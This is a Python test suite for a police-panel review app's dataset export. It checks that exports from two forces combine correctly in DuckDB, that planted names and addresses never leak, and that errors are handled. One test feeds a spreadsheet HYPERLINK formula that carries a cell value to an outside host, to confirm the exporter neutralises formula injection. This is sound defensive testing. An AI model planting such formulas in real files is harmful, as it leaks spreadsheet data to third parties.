"""`panel-review export dataset`: two OPCCs' datasets combined with DuckDB.

Two real coordinator profiles ("two OPCCs"), each built by the demo builder with its own
panel's answers and meeting quarter, export their datasets through the command line; DuckDB
(a test dependency only) reads both, as CSV and as Parquet, and computes a national
criteria table by force and quarter. Every number in it must be the round's own criteria
count from the app's findings service. Names, a force's case reference, a note phrase and
an address planted in the rounds must appear in no file, raw or parsed.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import subprocess
import sys
from collections import Counter
from dataclasses import dataclass, replace
from datetime import date
from pathlib import Path

import duckdb
import pyarrow.parquet as pq
import pytest

from desktop.core.answers import Answer
from desktop.core.clock import utc_now
from desktop.core.spreadsheet_cells import MARK, needs_mark, restored
from desktop.reports.content import CaseNotes, ReportOptions
from desktop.reports.criteria_rows import question_rows
from desktop.reports.dataset_tables import quarter
from desktop.services import background, findings, profile, report, rounds
from desktop.services.dataset import export_dataset
from desktop.services.demo import DEMO_PASSPHRASE
from desktop.services.demo_coordinator import COORDINATOR, MEMBERS, answers_for, create_demo_coordinator
from tests.fs_faults import fill, snapshot

ENTRY = Path(sys.executable).parent / "panel-review"
NOTE_PHRASE = "saw the neighbour's dog at the allotment gate"
ADDRESS = "14 Heol y Bont"
# The first OPCC's members write notes naming the victim and another member, at an address.
NOTES = {3: f"Mrs Angharad Pritchard of {ADDRESS} rang; Bethan Evans {NOTE_PHRASE}."}
PLANTED_TEXT = ("Angharad Pritchard", ADDRESS, NOTE_PHRASE, "Nia from the family", "Ioan Parry")
SECOND_LATE = {"DEMO-HC-02", "DEMO-HC-07", "DEMO-HC-11"}  # the second force's late HCSO contacts


def _north_plan(name: str, reference: str) -> dict[str, Answer]:
    answers = answers_for(name, reference)
    note = NOTES.get(int(reference.rsplit("-", 1)[1]))
    if note:
        answers["victim_contract"] = replace(answers["victim_contract"], note=note)
    answers["good_practice"] = Answer(f"Nia from the family thanked the officer ({reference}).")
    return answers


def _south_plan(name: str, reference: str) -> dict[str, Answer]:
    """Another panel's answers: three contacts late, and a different risk picture."""
    answers = answers_for(name, reference)
    if reference in SECOND_LATE:
        answers["hcso_contact_in_time"] = Answer("no", 96)
    if reference.endswith("4"):
        answers["risk_level"] = Answer("high")
    return answers


@dataclass(frozen=True)
class Opcc:
    folder: Path
    force: str
    quarter: str
    counts: dict[tuple[str, str], int]  # (question, finding code) -> cases, from the findings service
    references: tuple[str, ...]


def _build(root: Path, name: str, plan, meeting: str, force: str, quarter: str) -> Opcc:
    db = create_demo_coordinator(root / name, plan=plan)
    (round_row,) = rounds.list_rounds(db)
    cases = rounds.list_cases(db, round_row.id)
    kept = background.round_background(db, round_row.id)
    background.save_background(db, round_row.id, replace(kept, meeting_date=meeting))
    if name == "north":  # the panel's own words, beside the members' notes
        findings.save_case_notes(db, cases[4].id, CaseNotes(f"Ioan Parry lives at {ADDRESS}.", (), ()))
        findings.adjudicate(
            db, cases[2].id, "classification_correct", "unclear", f"Ioan Parry: {NOTE_PHRASE}"
        )
    merged = findings.round_findings(db, round_row.id)
    counts = {
        (q.id, code): n for q in merged.merged_questions() for code, n in merged.counts(q.id).items() if n
    }
    _criteria_table_agrees(db, round_row.id, counts)
    db.close()
    return Opcc(root / name, force, quarter, counts, tuple(c.reference for c in cases))


def _criteria_table_agrees(db, round_id: int, counts: dict[tuple[str, str], int]) -> None:
    """The counts taken from the findings service are the ones the round's criteria table prints."""
    gathered = report.gather(db, round_id)
    options = ReportOptions("en", "publication")
    printed = sum(
        int(row.count) for q in gathered.findings.merged_questions()
        for row in question_rows(gathered, q, options, "en") if row.count
    )  # fmt: skip
    assert printed == sum(counts.values()) > 0


def cli(*args: str | Path, language: str = "en", env: dict[str, str] | None = None):
    environment = {**os.environ, "PANEL_REVIEW_PASSPHRASE": DEMO_PASSPHRASE, **(env or {})}
    return subprocess.run(
        [str(ENTRY), "--language", language, *map(str, args)],
        capture_output=True, text=True, env=environment, timeout=180, stdin=subprocess.DEVNULL,
    )  # fmt: skip


@pytest.fixture(scope="module")
def opccs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Opcc]:
    root = tmp_path_factory.mktemp("opccs")
    built = {
        "north": _build(root, "north", _north_plan, "2026-03-14", "Glanmor Police", "2026-Q1"),
        "south": _build(root, "south", _south_plan, "2026-05-20", "Heddlu Dyffryn", "2026-Q2"),
    }
    for name, opcc in built.items():
        done = cli("--profile", opcc.folder, "export", "dataset", "--to", root / f"{name}-data",
                   "--force", opcc.force, "--opcc", f"OPCC for {opcc.force}")  # fmt: skip
        assert done.returncode == 0, done.stderr
        assert "Dataset written" in done.stdout and done.stderr == ""
    return built


def _data(opcc: Opcc) -> Path:
    return opcc.folder.parent / f"{opcc.folder.name}-data"


def _readme_query(north: Path, south: Path, fmt: str) -> str:
    """The national query as the README shows it, pointed at the two folders (and at CSV)."""
    readme = (Path(__file__).resolve().parents[2] / "README.md").read_text(encoding="utf-8")
    section = readme.split("### Combining several OPCCs' data", 1)[1]
    query = section.split("```sql\n", 1)[1].split("```", 1)[0]
    query = query.replace("'north/", f"'{north}/").replace("'south/", f"'{south}/")
    return query.replace("read_parquet", "read_csv").replace(".parquet'", ".csv'") if fmt == "csv" else query


def _sources(folders: list[Path], table: str, fmt: str) -> str:
    files = ", ".join(f"'{folder / f'{table}.{fmt}'}'" for folder in folders)
    return f"read_csv([{files}])" if fmt == "csv" else f"read_parquet([{files}])"


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_a_national_criteria_table_from_two_opccs_matches_each_rounds_own(opccs, fmt: str) -> None:
    query = _readme_query(_data(opccs["north"]), _data(opccs["south"]), fmt)
    assert query.count(f"{fmt}'") == 4
    got = {(force, quarter, q, code): n for force, quarter, q, code, n in duckdb.sql(query).fetchall()}
    expected = {(o.force, o.quarter, q, code): n for o in opccs.values() for (q, code), n in o.counts.items()}
    assert got == expected
    # the two forces differ where their panels did, so a mix-up of forces would show
    north, south = opccs["north"].counts, opccs["south"].counts
    assert north.get(("hcso_contact_in_time", "no"), 0) != south.get(("hcso_contact_in_time", "no"), 0)


def test_the_tables_join_into_the_checklists_words_and_members_answers(opccs) -> None:
    folders = [_data(o) for o in opccs.values()]
    labelled = duckdb.sql(f"""
        SELECT DISTINCT q.answer_en FROM {_sources(folders, "findings", "parquet")} f
        JOIN {_sources(folders, "checklist_questions", "parquet")} q
          ON q.round_uid = f.round_uid AND q.question_id = f.question_id AND q.answer_code = f.finding_code
        WHERE f.question_id = 'hcso_contact_in_time'
    """).fetchall()  # fmt: skip
    assert ("No",) in labelled
    members = duckdb.sql(
        f"SELECT DISTINCT member FROM {_sources(folders, 'answers', 'csv')} ORDER BY 1"
    ).fetchall()
    assert members == [(f"Member {letter}",) for letter in "ABCD"]


def test_the_manifest_names_every_file_with_its_hash_and_rows(opccs) -> None:
    folder = _data(opccs["north"])
    manifest = json.loads((folder / "dataset.json").read_text(encoding="utf-8"))
    assert manifest["format"] == "panel-review-dataset" and manifest["schema_version"] == 1
    named = {"dataset.json"}
    for table, about in manifest["tables"].items():
        for fmt, file in about["files"].items():
            data = (folder / file["name"]).read_bytes()
            assert hashlib.sha256(data).hexdigest() == file["sha256"]
            rows = len(_csv_rows(data)) - 1 if fmt == "csv" else pq.read_table(folder / file["name"]).num_rows
            assert rows == about["rows"], (table, fmt)
            named.add(file["name"])
    assert {p.name for p in folder.iterdir()} == named and len(named) == 9
    for table in manifest["tables"]:  # every row of every table carries the manifest's id
        assert _column(folder / f"{table}.csv", "dataset_id") == {manifest["dataset_id"]}


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def _parsed_values(path: Path) -> list[str]:
    if path.suffix == ".csv":
        return [cell for row in _csv_rows(path.read_bytes()) for cell in row]
    if path.suffix == ".parquet":
        return [str(v) for column in pq.read_table(path).to_pydict().values() for v in column]
    return [json.dumps(json.loads(path.read_text(encoding="utf-8")), ensure_ascii=False)]


def test_no_name_reference_note_or_address_leaves_in_any_file(opccs) -> None:
    north = opccs["north"]
    forbidden = (*PLANTED_TEXT, *MEMBERS, COORDINATOR, *north.references)
    files = sorted(_data(north).iterdir())
    assert len(files) == 9
    for path in files:
        raw, values = path.read_bytes(), _parsed_values(path)
        for text in forbidden:
            assert text.encode("utf-8") not in raw, (path.name, text)
            assert not [v for v in values if text in v], (path.name, text)
    # the planted texts really are in the round: the internal CSV report carries them
    report_csv = _data(north).parent / "north-internal.csv"
    done = cli("--profile", north.folder, "report", "--round", "1", "--format", "csv", "--mode", "internal",
               "-o", report_csv)  # fmt: skip
    assert done.returncode == 0, done.stderr
    written = b"".join(p.read_bytes() for p in report_csv.parent.glob("north-internal-*.csv"))
    assert all(text.encode("utf-8") in written for text in (*PLANTED_TEXT[:3], "DEMO-HC-03", "Ioan Parry"))


def test_every_csv_cell_is_spreadsheet_safe_and_a_formula_is_marked(opccs, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://example.com/?x="&A1,"Open")'
    out = tmp_path / "marked"
    done = cli("--profile", opccs["south"].folder, "export", "dataset", "--to", out, "--format", "csv",
               "--force", "Heddlu Dyffryn", "--opcc", formula)  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert sorted(p.name for p in out.iterdir()) == [
        "answers.csv", "checklist_questions.csv", "dataset.json", "findings.csv", "rounds.csv"
    ]  # fmt: skip
    for path in out.glob("*.csv"):
        for cell in (c for row in _csv_rows(path.read_bytes()) for c in row):
            assert not needs_mark(cell) or cell.startswith(MARK), (path.name, cell)
    header, row = _csv_rows((out / "rounds.csv").read_bytes())
    opcc = row[header.index("opcc")]
    assert opcc == MARK + formula and restored(opcc) == formula
    # the same profile exported twice: no case id is shared, so two exports cannot be linked
    first, again = (_column(folder / "findings.csv", "case_id") for folder in (_data(opccs["south"]), out))
    assert len(first) == len(again) == 16 and not first & again


def _column(path: Path, name: str) -> set[str]:
    header, *rows = _csv_rows(path.read_bytes())
    return {row[header.index(name)] for row in rows}


def test_without_pyarrow_parquet_is_explained_and_csv_written(opccs, tmp_path: Path) -> None:
    """An install without the optional `dataset` extra: pyarrow cannot be imported."""
    missing = tmp_path / "no-pyarrow"
    (missing / "pyarrow").mkdir(parents=True)
    (missing / "pyarrow" / "__init__.py").write_text("raise ImportError('No module named pyarrow')\n")
    out = tmp_path / "csv-only"
    done = cli("--profile", opccs["south"].folder, "export", "dataset", "--to", out, "--format", "parquet",
               "--force", "Heddlu Dyffryn", language="cy", env={"PYTHONPATH": str(missing)})  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert "pyarrow" in done.stderr and "CSV" in done.stderr and "Traceback" not in done.stderr
    assert "Mae ar ffeiliau Parquet angen" in done.stderr and "Ysgrifennwyd y set ddata" in done.stdout
    assert not list(out.glob("*.parquet")) and len(list(out.glob("*.csv"))) == 4


def _refused(done: subprocess.CompletedProcess[str]) -> str:
    assert done.returncode == 2, done.stdout + done.stderr
    assert "Traceback" not in done.stderr and len(done.stderr.strip().splitlines()) == 1
    return done.stderr


def test_a_members_profile_is_refused_in_one_line(tmp_path: Path) -> None:
    member = profile.create_profile(tmp_path / "member", "Test Member", DEMO_PASSPHRASE, "en")
    member.close()
    out = tmp_path / "out"
    said = _refused(cli("--profile", tmp_path / "member", "export", "dataset", "--to", out, "--force", "X"))
    assert "coordinator" in said and not out.exists()
    said = _refused(
        cli("--profile", tmp_path / "member", "export", "dataset", "--to", out, "--force", "X", language="cy")
    )
    assert "cydlynydd" in said and not out.exists()


def test_a_blank_force_is_refused_before_anything_is_written(opccs, tmp_path: Path) -> None:
    out = tmp_path / "out"
    said = _refused(cli("--profile", opccs["south"].folder, "export", "dataset", "--to", out, "--force", " "))
    assert "--force" in said and not out.exists()


def test_a_full_disk_leaves_the_folder_as_it_was(opccs, small_disk: Path) -> None:
    out = small_disk / "data"
    out.mkdir()
    (out / "notes.txt").write_text("kept")
    fill(small_disk, leave=16 * 1024)
    before = snapshot(small_disk)
    said = _refused(cli("--profile", opccs["north"].folder, "export", "dataset", "--to", out, "--force", "G"))
    assert said.startswith("The disk is full") and f"{out} could not" in said
    assert snapshot(small_disk) == before and sorted(p.name for p in out.iterdir()) == ["notes.txt"]
    new = small_disk / "new"
    _refused(cli("--profile", opccs["north"].folder, "export", "dataset", "--to", new, "--force", "Glanmor"))
    assert snapshot(small_disk) == before and not new.exists()


def test_a_read_only_folder_is_said_in_one_line_and_left_as_it_was(opccs, read_only_dir) -> None:
    out = read_only_dir.path / "data"
    out.mkdir()
    (out / "rounds.csv").write_text("an older export")
    read_only_dir.make_read_only()
    before = snapshot(read_only_dir.path)
    said = _refused(cli("--profile", opccs["north"].folder, "export", "dataset", "--to", out, "--force", "G"))
    assert said.startswith(f"Panel Review may not read or write {out}:")
    assert snapshot(read_only_dir.path) == before


def test_the_schema_in_the_docs_lists_every_column_with_its_type() -> None:
    from desktop.reports.dataset_schema import TABLES, check_published

    check_published()
    docs = (Path(__file__).resolve().parents[2] / "docs" / "formats.md").read_text(encoding="utf-8")
    section = docs.split("## The dataset", 1)[1].split("\n## ", 1)[0]
    for table, columns in TABLES.items():
        assert f"`{table}`" in section
        for column in columns:
            assert f"| `{column.name}` | {column.type} |" in section, (table, column.name)


def test_counts_helper_sees_multi_choice_codes_once_each(opccs) -> None:
    """A multi-choice finding has a row per code, so strands count as the criteria table does."""
    north = opccs["north"]
    rows = duckdb.sql(
        f"SELECT finding_code, count(*) FROM {_sources([_data(north)], 'findings', 'parquet')} "
        "WHERE question_id = 'strands_recorded' AND finding_code IS NOT NULL GROUP BY 1"
    ).fetchall()
    assert Counter(dict(rows)) == Counter(
        {code: n for (q, code), n in north.counts.items() if q == "strands_recorded"}
    )


@pytest.mark.parametrize(
    ("day", "expected"),
    [
        ("2026-01-01", "2026-Q1"),
        ("2026-03-31", "2026-Q1"),
        ("2026-04-01", "2026-Q2"),
        ("2026-12-31", "2026-Q4"),
    ],
)
def test_a_quarter_is_the_calendar_quarter_of_the_day(day: str, expected: str) -> None:
    assert quarter(date.fromisoformat(day)) == expected


def test_a_round_nobody_has_reviewed_yet_has_its_cases_and_no_finding(tmp_path: Path) -> None:
    """No meeting yet: the quarter is the round's creation's, and every finding is empty."""
    from tests.conftest import PASSPHRASE, make_cases, small_template_body

    db = profile.create_profile(tmp_path / "office", "Office", PASSPHRASE, "en", role="coordinator")
    rounds.add_round(db, "Spring", small_template_body(), make_cases(3), panel="Test panel", due_date=None)
    written = export_dataset(db, tmp_path / "data", "both", opcc="", force="Test force")
    db.close()
    assert written.rows["rounds"] == 1 and written.rows["answers"] == 0 and not written.parquet_missing
    (row,) = pq.read_table(tmp_path / "data" / "rounds.parquet").to_pylist()
    assert row["quarter_from"] == "round_created" and row["meeting_date"] is None
    assert row["quarter"] == quarter(utc_now().date()) and row["cases"] == 3 and row["members"] == 0
    found = pq.read_table(tmp_path / "data" / "findings.parquet").to_pylist()
    assert len({r["case_id"] for r in found}) == 3 and {r["finding_code"] for r in found} == {None}
    assert {r["agreement"] for r in found} == {"no_answers"}


def test_the_force_and_opcc_last_named_are_remembered_for_the_next_export(opccs, tmp_path: Path) -> None:
    north = opccs["north"].folder
    named = cli("--profile", north, "export", "dataset", "--to", tmp_path / "named", "--format", "csv",
                "--force", "Glanmor  Police", "--opcc", "Swyddfa Glanmor")  # fmt: skip
    assert named.returncode == 0, named.stderr
    again = cli("--profile", north, "export", "dataset", "--to", tmp_path / "again", "--format", "csv")
    assert again.returncode == 0, again.stderr
    for folder in ("named", "again"):
        header, row = _csv_rows((tmp_path / folder / "rounds.csv").read_bytes())
        assert (row[header.index("force")], row[header.index("opcc")]) == (
            "Glanmor Police",
            "Swyddfa Glanmor",
        )
